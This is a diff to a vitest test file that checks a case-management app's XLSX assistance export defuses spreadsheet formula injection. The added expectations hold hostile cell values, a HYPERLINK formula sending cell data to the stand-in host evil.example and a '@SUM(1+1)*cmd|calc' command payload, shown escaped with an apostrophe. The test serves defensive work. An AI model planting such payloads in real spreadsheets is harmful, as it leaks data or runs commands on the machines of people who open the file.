@@ -1,6 +1,7 @@
 // The access-request export (JSON, PDF) holds what the exporter may read and names what it leaves out; only the owner
 // with the identity grant exports; every export is audited. The team's assistance CSV defuses hostile cells.
 import { execFileSync } from 'node:child_process';
+import ExcelJS from 'exceljs';
 import { describe, expect, test } from 'vitest';
 import { createOrganisation } from '#tests/factories.ts';
 import type { TestApp } from '#tests/test-app.ts';
@@ -95,5 +96,19 @@ describe('the assistance spreadsheet', () => {
     expect(res.body).not.toContain('secret note');
     expect(res.body).not.toContain('psychological');
     expect((await call(t, w.other.caseManager, 'GET', `/api/cases/${c.id}/assistance.csv`)).statusCode).toBe(404);
+
+    // The same rows as an XLSX workbook: read back with exceljs, the hostile cells are text with an apostrophe.
+    const xlsx = await call(t, w.ngo.clinician, 'GET', `/api/cases/${c.id}/assistance.xlsx`);
+    expect(xlsx.statusCode).toBe(200);
+    expect(xlsx.headers['content-disposition']).toBe(`attachment; filename="${c.code}-assistance.xlsx"`);
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
+    const sheet = book.worksheets[0]!;
+    expect(sheet.rowCount).toBe(2);
+    const values = (sheet.getRow(2).values as unknown[]).filter((v) => v !== undefined && v !== null);
+    expect(values).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"x")`);
+    expect(values).toContain(`'@SUM(1+1)*cmd|calc`);
+    expect(values.some((v) => typeof v === 'object')).toBe(false); // no formula cell
+    expect((await call(t, w.other.caseManager, 'GET', `/api/cases/${c.id}/assistance.xlsx`)).statusCode).toBe(404);
   });
 });
